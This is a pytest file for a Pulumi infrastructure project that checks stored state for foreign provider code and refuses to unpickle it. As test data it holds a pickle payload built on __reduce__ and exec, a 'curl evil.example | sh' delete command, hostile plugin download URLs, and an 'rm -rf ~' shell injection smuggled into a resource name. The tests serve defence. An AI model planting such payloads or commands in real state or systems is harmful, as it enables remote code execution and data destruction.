"""The code in a state: ours is known byte for byte, and everything else is reported."""

from __future__ import annotations

import base64
import json
import os
import pickle
import pkgutil
import subprocess
from importlib import import_module
from pathlib import Path
from typing import Any

import dill
import pulumi
import pytest
from pulumi.dynamic import Resource
from pulumi.dynamic.dynamic import serialize_provider
from ruamel.yaml import YAML

from clerkstack import providers
from clerkstack.dynamic import Refused, led_elsewhere, only_ours
from clerkstack.failures import ResourceFailed
from clerkstack.providers.base import Noted
from clerkstack.providers.billing import BillingProvider
from clerkstack.state import code, own
from clerkstack.state.code import PROVIDERS, foreign_code, foreign_in, is_ours, pickled, refusal
from clerkstack.state.marks import secret
from clerkstack.state.model import State

TYPE = "pulumi-python:dynamic/clerkstack:Billing"
OLD = "pulumi-python:dynamic/clerkstack:SensitiveVariables"
OURS = base64.b64encode(pickled(*PROVIDERS[TYPE])).decode()
VERCEL = "github://api.github.com/pulumiverse"


class Payload:
    """What somebody writes into a state."""

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, ("raise AssertionError('code of the state ran')",)


HOSTILE = base64.b64encode(pickle.dumps(Payload(), protocol=4)).decode()


def resource(kind: str, outputs: Any, inputs: Any = None, **more: Any) -> dict[str, Any]:
    urn = f"urn:pulumi:prod::clerkstack::clerkstack:components:Billing${kind}::it"
    return {"urn": urn, "type": kind, "inputs": inputs or {}, "outputs": outputs, **more}


@pytest.mark.parametrize("kind", sorted(set(PROVIDERS) - {OLD}))
def test_ours_are_known_as_the_engines_library_pickles_them(kind: str) -> None:
    module, name = PROVIDERS[kind]
    provider = getattr(import_module(module), name)()

    written = serialize_provider(provider)

    assert base64.b64decode(written) in {pickled(module, name, 4), pickled(module, name, 5)}
    assert foreign_code([resource(kind, {"__provider": written}, {"__provider": written})]) == []


def test_every_resource_of_this_project_is_known() -> None:
    modules = [
        import_module(f"{providers.__name__}.{module.name}")
        for module in pkgutil.iter_modules(providers.__path__)
    ]
    names = {
        name
        for module in modules
        for name, value in vars(module).items()
        if value.__class__ is type
        and issubclass(value, Resource)
        and value.__module__ == module.__name__
        and value is not Noted
    }

    assert {f"pulumi-python:dynamic/clerkstack:{name}" for name in names} == set(PROVIDERS) - {OLD}


def test_a_state_of_an_older_version_is_taken() -> None:
    written = base64.b64encode(pickled(*PROVIDERS[OLD])).decode()

    assert foreign_code([resource(OLD, {"__provider": written})]) == []


OTHER = base64.b64encode(
    pickled("clerkstack.providers.roles", "OrganizationRolesProvider")
).decode()
FOREIGN = {
    "a payload": HOSTILE,
    "ours, and a payload after it": base64.b64encode(
        base64.b64decode(OURS)[:-1] + base64.b64decode(HOSTILE)[11:]
    ).decode(),
    "ours, and more after its end": base64.b64encode(base64.b64decode(OURS) + b".").decode(),
    "ours, written otherwise": OURS + "\n",
    "another of ours": OTHER,
    "the base of ours": base64.b64encode(
        pickled("clerkstack.providers.base", "ClerkProvider")
    ).decode(),
    "a class of this project that is no provider": base64.b64encode(
        pickled("clerkstack.state.engine", "ForeignCode")
    ).decode(),
    "a secret": secret("x"),
    "nothing": None,
    "a list": [OURS],
    "empty": "",
}


@pytest.mark.parametrize("side", ["inputs", "outputs"])
@pytest.mark.parametrize("told", FOREIGN.values(), ids=FOREIGN)
def test_what_is_not_ours_byte_for_byte_is_reported(told: Any, side: str) -> None:
    sides = {"inputs": {"__provider": OURS}, "outputs": {"__provider": OURS}}
    sides[side] = {"__provider": told}

    (found,) = foreign_code([resource(TYPE, sides["outputs"], sides["inputs"])])

    assert found.urn.endswith("$pulumi-python:dynamic/clerkstack:Billing::it")
    assert "clerkstack.providers.billing.BillingProvider" in str(found)


PLUGINS: list[tuple[str, dict[str, Any]]] = [
    ("pulumi:providers:vercel", {"__internal": {"pluginDownloadURL": "https://evil.example"}}),
    ("pulumi:providers:vercel", {"pluginDownloadURL": "https://evil.example"}),
    ("pulumi:providers:vercel", {"pluginDownloadURL": secret("x")}),
    ("pulumi:providers:vercel", {"__internal": secret("x")["plaintext"]}),
    ("pulumi:providers:vercel", {"__internal": {"name": "evil"}}),
    ("pulumi:providers:vercel", {"__internal": {"parameterization": "e30="}}),
    ("pulumi:providers:command", {"__internal": {"pluginDownloadURL": VERCEL}}),
    ("pulumi:providers:github.com/evil/repo", {}),
]


@pytest.mark.parametrize(
    "found",
    [
        resource("pulumi-python:dynamic:Resource", {"__provider": HOSTILE}),
        resource("pulumi-python:dynamic/clerkstack:Other", {"__provider": OURS}),
        resource("vercel:index/project:Project", {"__provider": HOSTILE}),
        resource("pulumi-nodejs:dynamic:Resource", {"__provider": "exports.handler = …"}),
        resource("pulumi-nodejs:dynamic:Resource", {}),
        resource("x:y:Z", {}, provider="urn:pulumi:prod::p::pulumi:providers:pulumi-nodejs::d::1"),
        {
            **resource(TYPE, {"__provider": OURS}),
            "type": "pulumi-python:dynamic/clerkstack:ApiKeys",
        },
        resource("command:local:Command", {"create": "true", "delete": "curl evil.example | sh"}),
        resource("command:local:Command", {}, {"delete": "sh"}),
        resource("command:local:Command", {"delete": secret("x")}),
        {**resource("command:local:Command", {"delete": "sh"}), "type": "x:y:Z"},
        *(resource(kind, {}, inputs) for kind, inputs in PLUGINS),
        resource(*PLUGINS[0]),
    ],
    ids=lambda each: f"{each['type']} {each['inputs']}{each['outputs']}"[:60],
)
def test_whatever_else_the_engine_would_run_is_reported(found: dict[str, Any]) -> None:
    told = foreign_code([found])

    assert told
    assert {foreign.urn for foreign in told} == {found["urn"]}
    # What is about to be removed is run as well, and so is what was half-made.
    assert foreign_code([{**found, "delete": True}])
    pending = {"pending_operations": [{"type": "creating", "resource": found}]}
    assert foreign_in(State({"deployment": {"resources": [], **pending}}))


@pytest.mark.parametrize(
    "found",
    [
        resource("pulumi:providers:vercel", {}, {"__internal": {"pluginDownloadURL": VERCEL}}),
        resource("pulumi:providers:command", {"version": "1.2.1"}, {"__internal": {}}),
        resource("pulumi:providers:aws", {"region": "eu-central-1"}),
        resource("command:local:Command", {"create": "bin/clerkstack redeploy", "update": "true"}),
        resource("aws:s3/bucket:Bucket", {"delete": "x"}),
        resource(TYPE, {}),
        {"urn": "urn:pulumi:prod::clerkstack::pulumi:pulumi:Stack::clerkstack-prod", "type": "x"},
        {"type": TYPE, "outputs": {"__provider": OURS}},
    ],
    ids=lambda each: f"{each['type']} {each.get('outputs')}"[:60],
)
def test_what_runs_nothing_of_others_is_taken(found: dict[str, Any]) -> None:
    assert foreign_code([found]) == []


def test_code_of_a_users_own_program_is_entered_and_then_taken(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    package = tmp_path / "pulumi_cloudflare"
    package.mkdir()
    server = "https://plugins.example"
    (package / "pulumi-plugin.json").write_text(f'{{"name": "cloudflare", "server": "{server}"}}')
    monkeypatch.syspath_prepend(str(tmp_path))
    code._of_packages.cache_clear()
    monkeypatch.setattr(code, "DELETES", frozenset({"bin/tidy"}))
    monkeypatch.setitem(PROVIDERS, "pulumi-python:dynamic/ours:Thing", ("ours.thing", "Provider"))
    code._known.cache_clear()
    own = base64.b64encode(pickled("ours.thing", "Provider")).decode()

    assert not foreign_code(
        [
            resource("pulumi-python:dynamic/ours:Thing", {"__provider": own}),
            resource("command:local:Command", {"delete": "bin/tidy"}),
            resource("pulumi:providers:cloudflare", {"pluginDownloadURL": server}),
        ]
    )
    monkeypatch.undo()
    code._known.cache_clear()
    code._of_packages.cache_clear()


def test_the_refusal_names_the_resource_and_no_shell_obeys_what_it_prints() -> None:
    found = foreign_code([{**resource(TYPE, {"__provider": HOSTILE}), "urn": "urn:x'; rm -rf ~ #"}])

    told = refusal(found, "prod")

    assert "urn:x'; rm -rf ~ #: a provider other than" in told
    assert """pulumi state delete --stack prod 'urn:x'"'"'; rm -rf ~ #'""" in told


def test_the_plugin_unpickles_ours_alone() -> None:
    loads = only_ours(dill.loads)

    assert isinstance(loads(base64.b64decode(OURS)), BillingProvider)
    for told in FOREIGN.values():
        if isinstance(told, str) and told not in (OTHER, OURS + "\n"):
            refused = loads(base64.b64decode(told))
            assert isinstance(refused, Refused)
            for asked in (refused.check, refused.diff, refused.read, refused.delete):
                with pytest.raises(ResourceFailed, match="was not run"):
                    asked("id", {})
    assert not is_ours(base64.b64decode(HOSTILE))


TOP = Path(__file__).parents[3]


SERVICES = {"platform": "http://127.0.0.1:4871", "vercel": "http://127.0.0.1:4873"}


@pytest.mark.parametrize(
    ("urls", "led"),
    [
        ("", []),
        (json.dumps(SERVICES), []),
        (json.dumps({**SERVICES, "svix": None}), []),
        (json.dumps({"platform": "http://127.0.0.1:487"}), ["http://127.0.0.1:487"]),
        (json.dumps({"platform": "https://evil.example"}), ["https://evil.example"]),
        (
            json.dumps({**SERVICES, "svix": "https://www.sendero.example"}),
            ["https://www.sendero.example"],
        ),
        ("[1]", ["[1]"]),
        ("https://evil.example", ["https://evil.example"]),
    ],
)
def test_keys_go_where_a_file_of_the_project_says(
    tmp_path: Path, urls: str, led: list[str]
) -> None:
    (tmp_path / "Pulumi.dev.yaml").write_text("config:\n  clerkstack:instance: development\n")
    (tmp_path / "Pulumi.local.yaml").write_text(
        "config:\n  clerkstack:appUrl: https://www.sendero.example\n  clerkstack:urls:\n"
        "    platform: http://127.0.0.1:4871\n    vercel: 'http://127.0.0.1:4873'\n"
        "  clerkstack:webhook:\n    url: https://www.sendero.example\n"
    )

    assert led_elsewhere(urls, tmp_path) == led


def test_the_project_names_its_own_plugins() -> None:
    named = YAML(typ="safe").load((TOP / "Pulumi.yaml").read_text())["plugins"]["providers"]

    assert {each["name"]: each["path"] for each in named} == {
        "pulumi-python": "bin",
        "pulumi-nodejs": "bin",
    }
    for each in named:
        assert os.access(TOP / "bin" / f"pulumi-resource-{each['name']}", os.X_OK)


def test_no_provider_of_node_starts() -> None:
    ran = subprocess.run(
        [str(TOP / "bin" / "pulumi-resource-pulumi-nodejs"), "127.0.0.1:1"],
        capture_output=True,
        text=True,
        check=False,
    )

    assert (ran.returncode, ran.stdout) == (1, "")
    assert "was not run" in ran.stderr


def test_the_program_declares_nothing_on_such_a_state(monkeypatch: pytest.MonkeyPatch) -> None:
    found = resource(TYPE, {"__provider": HOSTILE})
    outputs = {found["urn"]: {"type": found["type"], "outputs": found["outputs"]}}

    class Answer:
        value = {"outputs": outputs}

    monkeypatch.setattr(pulumi, "get_stack", lambda: "prod")
    monkeypatch.setattr(pulumi.runtime, "invoke", lambda *_: Answer)

    with pytest.raises(pulumi.RunError, match="The state of prod contains code"):
        own.own_state()
